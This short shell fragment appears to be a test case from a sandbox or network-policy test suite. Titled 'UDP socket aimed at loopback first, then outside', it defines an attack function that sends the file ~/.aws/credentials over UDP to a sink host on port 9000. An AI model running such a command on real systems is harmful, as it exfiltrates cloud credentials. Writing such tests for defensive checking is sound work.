# SPDX-License-Identifier: Apache-2.0
TITLE="UDP socket aimed at loopback first, then outside"
attack() { "$PROVOKE/datagram" reaim "$HOME/.aws/credentials" "$SINK4" 9000; }
